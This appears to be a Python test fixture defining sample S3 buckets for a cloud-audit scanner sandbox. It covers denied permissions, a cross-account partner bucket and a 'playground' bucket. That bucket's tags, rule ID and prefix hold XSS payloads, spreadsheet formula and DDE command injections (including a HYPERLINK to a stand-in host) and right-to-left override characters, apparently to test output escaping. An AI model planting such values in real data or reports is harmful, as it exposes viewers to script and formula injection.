"""What cannot be read, and what must be read with care: denied, foreign, hostile."""

from typing import Final

from scanner.sandbox.estate import Bucket, Rule
from scanner.sandbox.nordwind.places import (
    CENTRAL,
    CRITICAL,
    EUROPEAN,
    INTERNAL,
    NORTH,
    PARTNER,
    PLATFORM,
    PRODUCTION,
    WEST,
)

BUCKETS: Final = (
    Bucket(
        name="nordwind-legal-hold",
        account=PLATFORM,
        region=WEST,
        story="The legal team denies the audit role to read the replication configuration.",
        tags=CRITICAL,
        denied=("s3:GetReplicationConfiguration",),
    ),
    Bucket(
        name="nordwind-board-papers",
        account=PLATFORM,
        region=CENTRAL,
        story="The board denies the audit role everything; not even the tags can be read.",
        tags=CRITICAL,
        denied=("s3:*",),
    ),
    Bucket(
        name="nordwind-partner-feed",
        account=PRODUCTION,
        region=WEST,
        story="Feeds a partner whose account is not scanned: the destination exists and may not be read.",
        tags={**INTERNAL, **EUROPEAN},
        rules=(Rule(id="feed-to-havn", to="havn-analytics-intake"),),
    ),
    Bucket(
        name="havn-analytics-intake",
        account=PARTNER,
        region=CENTRAL,
        story="The partner's bucket.",
    ),
    Bucket(
        name="nordwind-playground",
        account=PLATFORM,
        region=NORTH,
        story="A student's bucket: tags, prefix and rule name are attempts at script and formula injection.",
        tags={
            "note": "<script>alert('tag')</script>",
            "sum": '=HYPERLINK("http://example.invalid/?"&A1;"tag")',
            "team": "\u202egnihtyna\u202c @SUM(1+1)*cmd|'/c calc'!A0",
        },
        rules=(
            Rule(
                id="=cmd|'/c calc'!A0 <img src=x onerror=alert('rule')>",
                to="nordwind-us-insights",
                prefix="</td><script>alert('prefix')</script>",
            ),
        ),
    ),
)
